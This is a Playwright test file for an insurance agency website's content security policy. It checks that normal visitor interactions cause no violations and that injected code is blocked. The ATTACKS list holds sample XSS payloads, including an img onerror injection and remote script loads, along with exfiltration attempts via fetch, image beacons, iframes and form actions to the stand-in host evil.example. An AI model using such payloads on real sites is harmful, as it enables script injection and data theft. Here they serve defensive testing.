/** The content security policy allows everything that the site does, and blocks injected code. */
import { expect, type Page, test } from "playwright/test";
import { mockQuoteApi, openQuoteForm, SUCCESS_TEXT } from "#tests/support/browser/quote-requests.ts";
import { recordViolations } from "#tests/support/browser/record-violations.ts";
import { MISSING_ROUTE, ROUTES } from "#tests/support/browser/routes.ts";
import { scrollThrough } from "#tests/support/browser/scroll-through.ts";
import { PHONE } from "#tests/support/browser/viewports.ts";
import { waitForHydration } from "#tests/support/browser/wait-for-hydration.ts";

const PREFETCH_HEADER = "sec-purpose";

// Animations and transitions must be allowed, too.
test.use({ contextOptions: { reducedMotion: "no-preference" } });

for (const route of [...ROUTES, MISSING_ROUTE]) {
  test(`${route} causes no violation in light and dark`, async ({ page }) => {
    const violations = await recordViolations(page.context());
    const response = await page.goto(route);
    const policy = response?.headers()["content-security-policy"];
    expect(policy).toMatch(/^default-src 'none'; .*script-src 'self' 'sha256-/);
    expect(policy).not.toContain("unsafe-");
    await scrollThrough(page);
    await page.emulateMedia({ colorScheme: "dark" });
    await scrollThrough(page);
    await page.waitForLoadState("networkidle");
    expect(violations).toEqual([]);
  });
}

/** Interactions of visitors. Each waits for its visible result. */
const INTERACTIONS: Record<string, (page: Page) => Promise<void>> = {
  async "a visitor requests a quote"(page) {
    await mockQuoteApi(page);
    const { fill, button, toast } = await openQuoteForm(page);
    await fill();
    await button.click();
    await expect(toast).toContainText(SUCCESS_TEXT);
  },
  async "a visitor submits a form with errors"(page) {
    const { button, form } = await openQuoteForm(page);
    await button.click();
    await expect(form.getByRole("link").first()).toBeVisible();
  },
  async "a visitor opens the form from the farm page"(page) {
    await page.goto("/farm");
    await page.getByRole("main").getByRole("link", { name: /quote/i }).first().click();
    await expect(page).toHaveURL(/\/contact/);
    await expect(page.getByLabel("Insurance Type")).toHaveValue("farm");
  },
  async "a visitor shows the map"(page) {
    await page.route("https://www.openstreetmap.org/**", (route) =>
      route.fulfill({ contentType: "text/html", body: "<h1>A map</h1>" }),
    );
    await page.goto("/contact");
    await page.getByRole("link", { name: "Show the Map" }).click();
    await expect(page.frameLocator("iframe").getByRole("heading")).toHaveText("A map");
  },
  async "a visitor advances the slider"(page) {
    await page.goto("/");
    const next = page.getByRole("button", { name: "Next testimonial" });
    await next.scrollIntoViewIfNeeded();
    await waitForHydration(next);
    await next.click();
    await expect(page.getByText(/^2 of \d$/)).toBeVisible();
  },
  async "a visitor opens a tooltip"(page) {
    await page.goto("/");
    await page.getByRole("button", { name: "About Years of Service" }).hover();
    await expect(page.getByRole("tooltip")).toBeVisible();
  },
  async "a visitor opens the menu"(page) {
    await page.setViewportSize(PHONE);
    await page.goto("/farm");
    await page.getByRole("button", { name: "Menu", exact: true }).click();
    await expect(page.getByRole("navigation", { name: "Main" })).toBeVisible();
  },
};

for (const [name, interact] of Object.entries(INTERACTIONS)) {
  test(`no violation occurs when ${name}`, async ({ page }) => {
    const violations = await recordViolations(page.context());
    await interact(page);
    expect(violations).toEqual([]);
  });
}

test("a page whose link the pointer is on is prerendered", async ({ page }) => {
  const violations = await recordViolations(page.context());
  await page.goto("/farm");
  const prerendered = page.context().waitForEvent("request", {
    predicate: async (request) => (await request.headerValue(PREFETCH_HEADER))?.includes("prerender") ?? false,
  });
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Medicare" }).hover();
  expect(new URL((await prerendered).url()).pathname).toBe("/medicare");
  expect(violations).toEqual([]);
});

/** Attacks that injected code could try, with the directive that blocks each one. */
const ATTACKS: [directive: string, attack: () => unknown][] = [
  [
    "require-trusted-types-for",
    () =>
      document.head.append(Object.assign(document.createElement("script"), { text: "document.title = 'attacked'" })),
  ],
  [
    "require-trusted-types-for",
    () =>
      document.head.append(Object.assign(document.createElement("script"), { src: "https://evil.example/attack.js" })),
  ],
  [
    "require-trusted-types-for",
    () => {
      document.body.setAttribute("onclick", "document.title = 'attacked'");
      document.body.click();
    },
  ],
  ["require-trusted-types-for", () => setTimeout(() => new Function("document.title = 'attacked'")())],
  [
    "require-trusted-types-for",
    () => {
      document.body.innerHTML = "<img src=x onerror=\"document.title = 'attacked'\">";
    },
  ],
  ["trusted-types", () => window.trustedTypes?.createPolicy("evil", { createHTML: String })],
  ["script-src-elem", () => import("https://evil.example/attack.js" as string)],
  [
    "style-src-elem",
    () => document.head.append(Object.assign(document.createElement("style"), { textContent: "body { opacity: 0 }" })),
  ],
  ["style-src-attr", () => document.body.setAttribute("style", "opacity: 0")],
  ["img-src", () => document.body.append(Object.assign(new Image(), { src: "https://evil.example/?secret" }))],
  ["connect-src", () => fetch("https://evil.example/?secret").catch(() => undefined)],
  [
    "frame-src",
    () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })),
  ],
  [
    "base-uri",
    () => document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" })),
  ],
  [
    "form-action",
    () => {
      const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
      document.body.append(form);
      form.submit();
    },
  ],
];

for (const [index, [directive, attack]] of ATTACKS.entries()) {
  test(`${directive} blocks attack ${index + 1}`, async ({ page }) => {
    const violations = await recordViolations(page.context());
    await page.goto("/contact");
    await page.evaluate(attack).catch(() => undefined);
    await expect.poll(() => violations).toContainEqual(expect.stringContaining(`${directive}: `));
    const { title, opacity, path } = await page.evaluate(() => ({
      title: document.title,
      opacity: getComputedStyle(document.body).opacity,
      path: location.pathname,
    }));
    expect(title).not.toBe("attacked");
    expect([opacity, path]).toEqual(["1", "/contact"]);
  });
}
